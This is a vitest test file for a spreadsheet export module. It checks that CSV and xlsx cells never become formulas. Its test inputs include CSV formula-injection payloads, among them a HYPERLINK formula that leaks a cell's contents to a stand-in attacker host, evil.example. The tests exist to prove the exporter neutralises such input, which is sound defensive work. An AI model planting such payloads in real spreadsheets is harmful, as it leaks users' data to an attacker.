import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { neutralizeCsvCell, plainCellValue } from './csv-safety.js';
import { writeSpreadsheet } from './spreadsheet.js';

describe('CSV cells never start a formula', () => {
  it('prefixes text that starts with = + - @ tab or carriage return with a quote', () => {
    for (const v of ['=1+1', '=HYPERLINK("http://evil.example/?leak="&C2,"Klik")', '+62 812', '-1+2', '@SUM(A1)', '\t=1', '\r=1']) {
      expect(neutralizeCsvCell(v)).toBe(`'${v}`);
    }
  });

  it('leaves other text, empty cells, numbers (negative ones too) and booleans as they are', () => {
    for (const v of ['Budi', '', ' =1', '0812-3456', "'=already", 'a=b', 'x@y.id', '(1)']) expect(neutralizeCsvCell(v)).toBe(v);
    expect(neutralizeCsvCell(-5)).toBe(-5);
    expect(neutralizeCsvCell(0)).toBe(0);
    expect(neutralizeCsvCell(true)).toBe(true);
  });

  it('turns every value into a plain cell: no object can become an exceljs formula', () => {
    expect(plainCellValue({ formula: 'A1+1' })).toBe('{"formula":"A1+1"}');
    expect(plainCellValue(null)).toBe('');
    expect(plainCellValue(new Date('2026-01-02T03:04:05Z'))).toBe('2026-01-02T03:04:05.000Z');
    expect(plainCellValue(['rpl', 'tkj'])).toBe('rpl,tkj');
    expect(plainCellValue(-12.5)).toBe(-12.5);
  });
});

describe('writeSpreadsheet', () => {
  const columns = [{ key: 'name' }, { key: 'score' }, { key: 'extra' }];
  const rows = [{ name: '=HYPERLINK("http://evil.example","x")', score: -3, extra: { formula: '1+1' } }];

  it('CSV: the formula text is quoted, the negative number stays a number', async () => {
    const csv = (await writeSpreadsheet('csv', 't', columns, rows)).toString('utf8').replace(/^\uFEFF/, '');
    const [, line] = csv.trim().split('\n');
    expect(line).toBe(`"'=HYPERLINK(""http://evil.example"",""x"")",-3,"{""formula"":""1+1""}"`);
  });

  it('xlsx: text cells keep their exact value as text, numbers stay numbers, no formula anywhere', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await writeSpreadsheet('xlsx', 't', columns, rows)) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const row = sheet.getRow(2);
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(1).value).toBe(rows[0]!.name);
    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.Number);
    expect(row.getCell(3).type).toBe(ExcelJS.ValueType.String);
    sheet.eachRow((r) => r.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula)));
  });
});
